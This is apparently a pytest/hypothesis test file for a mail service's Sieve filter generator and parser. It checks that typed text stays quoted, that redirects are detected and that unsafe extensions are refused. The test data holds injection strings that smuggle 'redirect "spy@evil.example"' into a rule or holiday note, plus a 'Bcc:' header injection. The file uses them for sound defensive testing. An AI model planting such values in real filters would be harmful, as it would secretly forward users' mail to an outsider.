"""Small rules as a Sieve script and back; what is typed stays inside its quotes. The compiler itself is asked."""

import shutil
import subprocess
from datetime import date
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from postroom.protocols import sieve, sieve_text
from postroom.protocols.filters import Answer, Filters, NoRule, Rule, quoted, read, script
from postroom.protocols.sieve_text import NoScript, parsed

GOLDEN = Path(__file__).parents[1] / "golden/sieve"
CONFIGURATION = "protocols =\nlog_path = /dev/stderr\nplugin {\n  sieve_extensions = -include -enotify -editheader\n}\n"
compiled = pytest.mark.skipif(shutil.which("sievec") is None, reason="there is no sievec here")

HOSTILE = ('"; redirect "spy@evil.example"; #', "\\", '\\"', "${hex:22}", "*/", "text:", "};", "# {}", "mime\u2028"[:4])
LINE = st.one_of(
    st.sampled_from(HOSTILE), st.text(st.sampled_from('"\\;{}#/* $:x'), max_size=20), st.text(max_size=40)
).filter(lambda text: bool(text.strip()) and text.isprintable())
NAMES = st.text(
    st.characters(categories=("L", "N", "Zs", "Po"), exclude_characters='/.\\*%"#&'), min_size=1, max_size=20
)
FOLDER = NAMES.map(str.strip).filter(lambda text: bool(text) and text.isprintable())
DAY = st.none() | st.dates(date(2026, 1, 1), date(2026, 6, 30))
LATER = st.none() | st.dates(date(2026, 7, 1), date(2027, 1, 1))
LINES = st.lists(LINE, min_size=1, max_size=4).map("\n".join)
FOUND = st.sampled_from(["from", "to", "subject"])
RULES = st.builds(Rule, FOUND, LINE, FOLDER, st.booleans(), st.booleans()) | st.builds(
    Rule, FOUND, LINE, st.just(""), st.booleans(), st.just(True)
)
ANSWERS = st.none() | st.builds(Answer, LINE, LINES, DAY, LATER, st.integers(1, 30))
FILTERS = st.builds(Filters, st.lists(RULES, max_size=4).map(tuple), ANSWERS)

BOTH = Filters(
    (Rule("from", "shop", "Shops", read=True), Rule("subject", "invoice", "Bills", copy=True)),
    Answer("Away", "Back on 7 December.\nMia", date(2026, 12, 1), date(2026, 12, 6), 3),
)


def dumped(text: str, folder: Path) -> str:
    """What the compiler makes of it; it must take it."""
    (folder / "conf").write_text(CONFIGURATION)
    (folder / "x.sieve").write_text(text)
    for command in (["sievec", "-c", "conf", "x.sieve", "x.svbin"], ["sieve-dump", "-c", "conf", "x.svbin"]):
        done = subprocess.run(command, cwd=folder, capture_output=True, timeout=20)
        assert done.returncode == 0, (text, done.stderr)
    return done.stdout.decode("utf-8", "surrogateescape")


def names(dump: str) -> list[str]:
    """The commands of the program, in their order."""
    return [op.name for op in sieve._ops(sieve._program(dump))]


@compiled
@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(FILTERS)
def test_whatever_is_typed_stays_in_its_quotes(tmp_path: Path, filters: Filters) -> None:
    text = script(filters)

    assert read(text) == filters
    assert parsed(text).redirects == []
    dump = dumped(text, tmp_path)
    said = names(dump)
    assert "REDIRECT" not in said and "DISCARD" not in said and sieve.read(dump, text).unreadable == ""
    assert said.count("FILEINTO") == sum(bool(one.folder) for one in filters.rules)
    assert said.count("ADDFLAG") == sum(one.read for one in filters.rules)
    assert said.count("HEADER") == len(filters.rules) and said.count("VACATION") == bool(filters.answer)


def test_text_of_a_holiday_note_stays_text() -> None:
    """Nothing that is said in it is done (Modoboa c1db85381)."""
    note = 'I am away.";\nredirect "spy@evil.example"; #'
    assert parsed(script(Filters((), Answer("Away", note)))).redirects == []


@given(FILTERS)
def test_rules_come_back_as_they_were_written(filters: Filters) -> None:
    assert read(script(filters)) == filters
    assert read(script(filters).replace("\n", "\r\n") + "\r\n") == filters


def test_a_script_that_was_changed_by_hand_is_not_its_rules() -> None:
    text = script(BOTH)

    assert read(text.replace("Shops", "Mine", 1)) is None
    assert read(text + '\nredirect "spy@evil.example";') is None
    assert read(text.replace("stop;", "stop ;")) is None
    assert read("keep;") is None and read("") is None


@pytest.mark.parametrize(
    ("made", "why"),
    [
        (lambda: Rule("from", "x"), "moves mail into a folder"),
        (lambda: Rule("from", " ", "Shops"), "one line"),
        (lambda: Rule("from", "a\nb", "Shops"), "one line"),
        (lambda: Rule("from", "x", "a/b"), "has none of"),
        (lambda: Rule("cc", "x", "a"), "from, to or subject"),  # type: ignore[arg-type]
        (lambda: Answer("Away", " "), "say what is answered"),
        (lambda: Answer("Away", "a\0b"), "cannot be shown"),
        (lambda: Answer("A\r\nBcc: x@evil.example", "x"), "one line"),
        (lambda: Answer("Away", "x", days=0), "1 to 30 days"),
        (lambda: Answer("Away", "x", date(2026, 12, 2), date(2026, 12, 1)), "before the first"),
        (lambda: Filters((Rule("from", "x", "a"),) * 101), "100 rules"),
    ],
)  # fmt: skip
def test_what_is_no_rule(made: object, why: str) -> None:
    with pytest.raises(NoRule, match=why):
        made()  # type: ignore[operator]


@pytest.mark.parametrize("name", sorted(path.stem for path in GOLDEN.glob("*.sieve")))
def test_what_the_compiler_takes_is_a_script(name: str) -> None:
    text = (GOLDEN / f"{name}.sieve").read_bytes().decode("utf-8", "replace")
    if "enotify" in text or "reject" in text:  # which are offered to nobody
        with pytest.raises(NoScript, match=r"'(enotify|reject)' is not offered"):
            parsed(text)
        return
    parsed(text)


@pytest.mark.parametrize("name", ["reject", "ereject"])
def test_what_would_lose_mail_is_not_offered_and_it_is_said_why(name: str) -> None:
    with pytest.raises(NoScript, match=f"line 2: '{name}' is not offered here: mail that is rejected so would be lost"):
        parsed(f'require "copy";\nrequire "{name}";\n{name} "No.";')


@compiled
def test_the_compiler_knows_every_extension_that_is_taken_for_offered(tmp_path: Path) -> None:
    dumped(f"require [{', '.join(map(quoted, sorted(sieve_text.EXTENSIONS)))}];\nkeep;", tmp_path)


@pytest.mark.parametrize(
    ("text", "why"),
    [
        ("keep", "line 1: after keep stands 'the end', and not ';'"),
        ("keep;\n\nif true {\n  stop;", "line 4: after the block of if stands 'the end', and not '}'"),
        ('keep;\nredirect "a@b.example', "line 2: a string that does not end"),
        ("keep;\nfoo;", "line 2: there is no command 'foo'"),
        ('if wrong "x" { keep; }', "line 1: there is no test 'wrong'"),
        ('fileinto "x";', "line 1: fileinto needs require 'fileinto'"),
        ('require "editheader";', "line 1: 'editheader' is not offered here"),
        ('require "include";', "line 1: 'include' is not offered here"),
        ('keep;\nrequire "fileinto";', "line 2: require stands before everything else"),
        ("else { keep; }", "line 1: else has no if before it"),
        ("}", "line 1: '}' closes nothing"),
        ("if allof(true { keep; }", "line 1: after the tests of allof stands '{'"),
        ("if " + "not " * 40, "within each other"),
        ("keep; \0", "line 1"),
        ("x" * 70_000, "longer than"),
    ],
)
def test_what_is_no_script_is_said_with_its_line(text: str, why: str) -> None:
    with pytest.raises(NoScript) as refused:
        parsed(text)
    assert why in str(refused.value)


@pytest.mark.parametrize(
    ("text", "to"),
    [
        ('redirect "Mia@Home.example";', ["mia@home.example"]),
        ('require "variables"; redirect "${x}@home.example";', [""]),
        ('if header "x" ["a", "b"] { redirect text:\nmia@home.example\n.\n; } # redirect "no@no.example";',
         ["mia@home.example"]),
        ('require ["copy"]; /* redirect "a@b.example"; */ redirect :copy "c@d.example";', ["c@d.example"]),
        ('require "vacation"; vacation "redirect \\"a@b.example\\";";', []),
        ('require "variables";\nset "a" text:\n.\n;\nredirect "spy@acme.example";\nset "b" text:\n.\n;\n',
         ["spy@acme.example"]),
        ('require "variables";\r\nset "a" text: # none\r\n.\r\n;\r\nredirect "c@d.example";', ["c@d.example"]),
    ],
)  # fmt: skip
def test_where_a_script_sends_mail(text: str, to: list[str]) -> None:
    assert parsed(text).redirects == to


INSIDE = st.just([]) | st.lists(
    st.sampled_from(["", "..", ". ", "..redirect", 'redirect "no@no.example";', ";", "x", "/*", "#"]), max_size=3
)
PIECES = st.one_of(
    INSIDE.map(lambda lines: "".join(["text:\n", *(f"{one}\n" for one in lines), ".\n"])).map("set {0};".format),
    INSIDE.map(lambda lines: quoted("\n".join(lines))).map("set {0};".format),
    INSIDE.map(lambda lines: "/*" + " ".join(lines).replace("/*", "") + "*/"),
    INSIDE.map(lambda lines: "# " + " ".join(lines) + "\n"),
    st.sampled_from(["a@b.example", "spy@acme.example"]).map('redirect "{0}";'.format),
).map(lambda piece: piece.replace("set ", 'set "a" ', 1) if piece.startswith("set ") else piece)


@compiled
@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(st.lists(PIECES, min_size=3, max_size=8))
def test_it_finds_every_redirect_that_the_compiler_finds(tmp_path: Path, pieces: list[str]) -> None:
    text = 'require "variables";\n' + "\n".join(pieces) + "\n"

    made = sieve.read(dumped(text, tmp_path), text)
    assert made.unreadable == ""
    assert sorted(parsed(text).redirects) == sorted(one.to for one in made.redirects)


@given(st.text(st.sampled_from('"\\#;{}()[],:. \nabifkeptx1'), max_size=60))
def test_any_text_is_read_or_refused(text: str) -> None:
    try:
        parsed(text)
    except NoScript as error:
        assert error.line >= 1


def test_a_quoted_string_has_two_characters_that_mean_something() -> None:
    assert quoted('a"b\\c\n') == '"a\\"b\\\\c\n"'
    assert sieve_text.parsed(f"require {quoted('copy')};").needs == {"copy"}
